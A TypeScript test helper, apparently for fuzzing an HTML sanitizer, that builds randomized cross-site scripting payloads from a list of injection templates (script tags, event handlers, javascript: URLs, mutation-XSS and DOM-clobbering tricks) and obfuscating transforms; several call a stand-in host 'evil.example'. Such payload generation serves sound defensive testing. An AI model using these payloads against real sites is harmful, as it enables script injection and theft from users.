// Texts that would act if a page let them: the known ways, and each of them bent at random.
import { oneOfThem } from './body-for.ts'
import type { Chance } from './inputs/chance.ts'

const EVIL = 'https://evil.example'
const ACTS = ['pwn()', 'globalThis.pwn()', 'top.pwn()', "alert('pwn')", `fetch('${EVIL}')`] as const
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onbegin',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
] as const

const WAYS: readonly ((act: string, event: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  () => `<script src="${EVIL}/x.js"></script>`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act, event) => `<img src=x ${event}=${act}>`,
  (act, event) => `<img src="${EVIL}/x.png" ${event}="${act}">`,
  (act) => `<IMG """><SCRIPT>${act}</SCRIPT>">`,
  (act, event) => `<svg ${event}=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  (act) => `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  (act) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  (act) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  () => `<embed src="${EVIL}">`,
  () => `<base href="${EVIL}/">`,
  () => `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  () => `<link rel="stylesheet" href="${EVIL}/x.css">`,
  () => `<style>@import '${EVIL}/x.css'; body { background: url(${EVIL}) }</style>`,
  () => `<p style="background:url(${EVIL})">styled</p>`,
  () => '<p id="root" name="body" class="dialog">clobbers</p><a id=pwn name=ran href="x">',
  (act, event) => `<p ${event}="${act}" tabindex=0 autofocus>presses</p>`,
  (act) => `<a href="javascript:${act}">link</a>`,
  (act) => `<a href=" &#14; javascript:${act}">link</a>`,
  (act) => `<a href="java&#x09;script:${act}">link</a>`,
  (act) => `<a href="data:text/html,<script>${act}</script>">link</a>`,
  (act) => `<form action="${EVIL}"><input autofocus onfocus=${act}><button>Go</button></form>`,
  (act) => `<details open ontoggle=${act}>x</details>`,
  (act) => `<video src="${EVIL}"><source onerror=${act}></video>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<textarea></textarea><img src=x onerror=${act}>`,
  (act) => `<!--><img src=x onerror=${act}>-->`,
  (act) => `<![CDATA[<img src=x onerror=${act}>]]>`,
  (act, event) => `<custom-element ${event}=${act}>x</custom-element>`,
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `"><img src=x onerror=${act}>`,
]

const BENDS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/[a-z](?=[a-z]*[\s=>])/g, (letter) => letter.toUpperCase()),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => `<b>${text}`,
  (text) => `<p>${text}</p><i>`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('"', "'"),
  (text) => `<ul><li>${text}`,
  (text) => text.replaceAll('=', '\n=\t'),
]

export function payloadsOf(count: number, chance: Chance): string[] {
  return Array.from({ length: count }, (_, at) => {
    const way = WAYS[at % WAYS.length] as (typeof WAYS)[number]
    const bend = BENDS[Math.floor(at / WAYS.length) % BENDS.length] as (typeof BENDS)[number]
    return bend(way(oneOfThem(ACTS, chance), oneOfThem(EVENTS, chance)))
  })
}
